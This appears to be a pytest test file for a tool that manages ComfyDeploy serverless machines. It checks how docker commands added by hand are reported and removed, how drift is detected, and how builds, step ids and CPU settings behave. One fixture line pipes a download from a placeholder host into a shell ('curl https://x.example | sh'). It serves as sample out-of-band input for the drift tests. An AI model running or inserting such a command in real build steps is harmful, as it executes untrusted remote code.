"""The traps of what a machine's image is made from: commands nobody reads back, images of workspaces, ids.

Also numbers that differ and mean the same.

Facts: docs/platforms/comfydeploy.md 2.3, 2.3.1, 5.3.
"""

from __future__ import annotations

import pytest
from by_hand import builds_of
from lone import bodies, up
from waiting import eventually

STEP = {"type": "commands", "data": "RUN a"}
EXTRA = [{"when": "after", "commands": ["RUN curl https://x.example | sh"]}]
PATCH = ("PATCH", "/machine/serverless/[^/]+")


def made_by_hand(platform, **fields):
    machine = platform.post("/machine/serverless", json={"name": "m", "gpu": "T4", **fields}).raise_for_status().json()
    ready(platform, machine["id"])
    return machine["id"]


def give_extra_commands(platform, machine):
    platform.patch(f"/machine/serverless/{machine}", json={"extra_docker_commands": EXTRA}).raise_for_status()
    ready(platform, machine)


def ready(platform, machine):
    eventually(lambda: platform.get(f"/machine/{machine}").json()["status"] == "ready")


def test_extra_docker_commands_of_an_adopted_machine_are_told_and_taken_out(lone, platform):
    machine = made_by_hand(platform, docker_command_steps={"steps": [{**STEP, "id": "x"}]})
    give_extra_commands(platform, machine)
    it = lone("ServerlessMachine", name="m", adopt=machine, docker_command_steps=[STEP])

    up(it)

    assert it.rows[0]["extra_docker_commands"] == []
    assert bodies(it, *PATCH)[-1] == {"extra_docker_commands": []}
    assert any("`extra_docker_commands`, which no program declares" in line for line in it.lines)
    it.assert_settled()


def test_extra_docker_commands_that_somebody_adds_are_drift(lone, platform):
    it = lone("ServerlessMachine", docker_command_steps=[STEP])
    up(it)
    give_extra_commands(platform, it.id)
    it.refresh()
    it.refresh()

    assert it.has_changes()
    assert len(it.lines) == 1  # it is said once

    up(it)

    assert it.rows[0]["extra_docker_commands"] == []
    it.assert_settled()


def test_extra_docker_commands_go_with_a_build_that_is_forced(lone, platform):
    it = lone("ServerlessMachine", docker_command_steps=[STEP])
    up(it)
    give_extra_commands(platform, it.id)
    it.refresh()
    it.arguments["rebuild_trigger"] = "now"

    up(it)

    assert it.rows[0]["extra_docker_commands"] == []
    assert len(builds_of(it)) == 3  # the first, that by hand, and one of ours


def test_ids_of_steps_do_not_rebuild_a_machine_that_is_adopted(lone, platform):
    machine = made_by_hand(platform, docker_command_steps={"steps": [{**STEP, "id": "by-the-dashboard"}]})
    it = lone("ServerlessMachine", name="m", adopt=machine, docker_command_steps=[STEP])

    up(it)

    assert len(builds_of(it)) == 1
    it.assert_settled()


def test_another_id_of_a_step_is_neither_a_change_nor_drift(lone, platform):
    it = lone("ServerlessMachine", docker_command_steps=[STEP])
    up(it)
    body = {"docker_command_steps": {"steps": [{**STEP, "id": "by-the-dashboard"}]}}
    platform.patch(f"/machine/serverless/{it.id}", json=body).raise_for_status()
    ready(platform, it.id)
    it.refresh()
    it.arguments["docker_command_steps"] = [{**STEP, "id": "by-the-program"}]
    up(it)

    assert len(builds_of(it)) == 2  # that by hand is no reason for one of ours


@pytest.mark.parametrize("field", ["cpu_request", "cpu_limit"])
def test_a_number_of_cores_whose_answer_was_lost_is_built_once(lone, emulator, field):
    it = lone("ServerlessMachine")
    up(it)
    it.arguments[field] = 0.1
    emulator.faults.add(*PATCH, "lost")

    up(it)

    assert len(builds_of(it)) == 2
    assert len(bodies(it, *PATCH)) == 2  # it was sent again, as the platform had stored it
    assert it.outputs["cpuRequest" if field == "cpu_request" else "cpuLimit"] == 0.1
    it.assert_settled()


def test_an_image_of_a_workspace_takes_no_steps_and_the_up_says_so(lone, emulator):
    emulator.settings.fluid_builds = True
    it = lone("ServerlessMachine")
    up(it)
    it.arguments["docker_command_steps"] = [{"type": "commands", "data": "RUN echo BREAK-INFERENCE"}]

    up(it)

    assert not emulator.comfydeploy.builds.serving[it.id].breaks_inference
    assert any("builds on it without `docker_command_steps`" in line for line in it.lines)


def test_texts_that_are_not_declared_are_not_sent_with_a_new_machine(lone):
    it = lone("ServerlessMachine")

    up(it)

    (body,) = bodies(it, "POST", "/machine/serverless")
    assert "" not in body.values()


def test_the_build_s_number_and_hash_are_outputs(lone):
    it = lone("ServerlessMachine")
    up(it)
    it.arguments["docker_command_steps"] = [STEP]
    first = it.outputs["machineHash"]

    up(it)

    newest = builds_of(it)[-1]
    assert (it.outputs["versionNumber"], it.outputs["machineHash"]) == (2, newest["machine_hash"])
    assert newest["machine_hash"] != first
    it.arguments["gpu"] = "L4"  # no build: they stay
    up(it)
    assert (it.outputs["versionNumber"], it.outputs["machineHash"]) == (2, newest["machine_hash"])
